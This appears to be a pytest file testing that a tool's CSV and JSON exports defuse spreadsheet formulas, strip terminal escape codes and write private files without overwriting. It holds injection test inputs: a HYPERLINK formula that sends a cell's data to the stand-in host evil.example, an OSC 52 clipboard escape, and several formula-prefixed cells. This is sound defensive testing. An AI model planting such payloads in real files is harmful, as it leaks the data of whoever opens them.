"""Export files: cells keep their kind, no cell runs as a formula, nothing is overwritten."""

from __future__ import annotations

import csv
import io
import json
import stat
from pathlib import Path

import pytest

from hubtui.core.presenting.export import (
    SparseCsvRow,
    csv_text,
    formula_safe,
    render,
    typed_cell,
    write_csv,
    write_export,
)

FORMULA_NAME = 'Harbour,"=HYPERLINK(""http://evil.example/?d=""&B14,""Open"")",'


def test_export_header_lines_are_one_cell_and_never_a_formula() -> None:
    text = render("csv", {"project": FORMULA_NAME, "filter": " =1+1"}, ["Name"], [["x"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == [f"# project: {FORMULA_NAME}"]  # one cell, not a cell per comma
    assert rows[1] == ["# filter:  =1+1"]
    assert rows[2:] == [["Name"], ["x"]]


def test_a_formula_after_leading_spaces_or_in_full_width_is_quoted() -> None:
    assert formula_safe(" =1+1") == "' =1+1"
    assert formula_safe("\u3000=1+1") == "'\u3000=1+1"
    assert formula_safe("＝1+1") == "'＝1+1"
    assert formula_safe("a=1") == "a=1"


def test_cells_keep_their_kind_in_json_and_read_as_words_in_csv() -> None:
    row = [
        typed_cell("LIMITED", boolean=True),
        typed_cell("", boolean=True),
        typed_cell("unknown", boolean=True),
        typed_cell("1,204", numeric=True),
        typed_cell("=cmd", numeric=True),
    ]
    assert row == [True, False, None, 1204, "=cmd"]
    columns = ["Limited", "Reviewer", "Said", "Users", "Name"]
    data = json.loads(render("json", {"server": "demo"}, columns, [row]))
    assert data["rows"] == [dict(zip(columns, row, strict=True))]
    assert data["context"] == {"server": "demo"}
    lines = list(csv.reader(io.StringIO(render("csv", {}, columns, [row]))))
    assert lines[-1] == ["yes", "no", "", "1204", "'=cmd"]


#: Cells a row may hold, each alone and beside the others: plain, a formula at the start, after
#: spaces or after a comma within the cell, full-width signs, controls, invisible characters.
CELLS = [
    "ann@x.example",
    "Bridge, North",
    'the "Annex"',
    "a,=1+1",
    "=1+1",
    " -2",
    "\u3000@cmd",
    "＋1",
    "x\u200by",
    "\u3164",
    "b\x1b[2J",
    "tab\there",
    "",
    "Admin",
    True,
    None,
    1204,
]


@pytest.mark.parametrize("first", CELLS)
def test_each_row_is_written_as_its_cells_made_safe_one_by_one(first: object) -> None:
    rows = [[first, other, "plain"] for other in CELLS] + [[first], [first, ""]]
    out = io.StringIO()
    write_csv(out, {}, ["A", "B", "C"], rows)  # type: ignore[arg-type]
    expected = io.StringIO()
    writer = csv.writer(expected, lineterminator="\n")
    writer.writerow(["A", "B", "C"])
    writer.writerows([csv_text(c) for c in row] for row in rows)  # type: ignore[arg-type]
    assert out.getvalue() == expected.getvalue()


def test_server_text_in_an_export_is_inert() -> None:
    text = render("json", {"hub": "a\x1b]52;c;ZXZpbA==\x07"}, ["Name"], [["b\x1b[2J"]])
    assert "\x1b" not in text
    assert "\x07" not in text


def test_a_file_is_private_and_never_replaced(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_export(path, "first\n")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    second = write_export(path, "second\n")
    assert second == tmp_path / "out-2.csv"
    assert path.read_text() == "first\n"
    assert second.read_text() == "second\n"
    assert stat.S_IMODE(second.stat().st_mode) == 0o600


@pytest.mark.parametrize(
    "head",
    [
        [],
        [""],
        ["", ""],
        ["a@b.example"],
        ["a@b.example", "Ann Berg", "Guest", "2026-11-01 09:30"],
        ["x,y", 'say "hi"', "", "line\nbreak"],
    ],
)
def test_a_sparse_row_is_written_exactly_as_the_csv_writer_writes_every_cell(
    head: list[str],
) -> None:
    """The access matrix writes each person's row as its filled cells and commas: the file is
    the one the CSV writer makes of every cell, quotes, commas, line breaks and empty cells
    included, at either end of the row."""
    tricky = ["Editor", "LIMITED", 'Re"ader', "Admin,Owner", "two\nlines", " spaced", "'=1+1"]
    rows = [
        SparseCsvRow(head, 7, {}),
        SparseCsvRow(head, 7, {0: "Editor"}),
        SparseCsvRow(head, 7, {6: "LIMITED", 0: "Reader"}),
        SparseCsvRow(head, 7, dict(enumerate(tricky))),
        SparseCsvRow(head, 7, {3: tricky[2], 5: tricky[4], 4: ""}),
        SparseCsvRow(head, 1, {0: tricky[3]}),
    ]
    sparse, dense = io.StringIO(), io.StringIO()
    columns = [f"c{n}" for n in range(len(head) + 7)]
    write_csv(sparse, {"hub": "acme"}, columns, rows)
    write_csv(dense, {"hub": "acme"}, columns, [])
    csv.writer(dense, lineterminator="\n").writerows(row.cells() for row in rows)
    assert sparse.getvalue() == dense.getvalue()
    written = list(csv.reader(io.StringIO(sparse.getvalue())))
    assert written[2 + 3] == [*head, *tricky]


def test_rows_and_wide_rows_mixed_are_written_in_their_order() -> None:
    rows: list[list[object] | SparseCsvRow] = [
        ["first", "1"],
        SparseCsvRow(["second"], 1, {0: "Editor"}),
        ["third", "=3"],
        SparseCsvRow(["fourth"], 1, {}),
    ]
    out = io.StringIO()
    write_csv(out, {}, ["a", "b"], rows)  # type: ignore[arg-type]
    assert out.getvalue().splitlines() == [
        "a,b",
        "first,1",
        "second,Editor",
        "third,'=3",
        "fourth,",
    ]
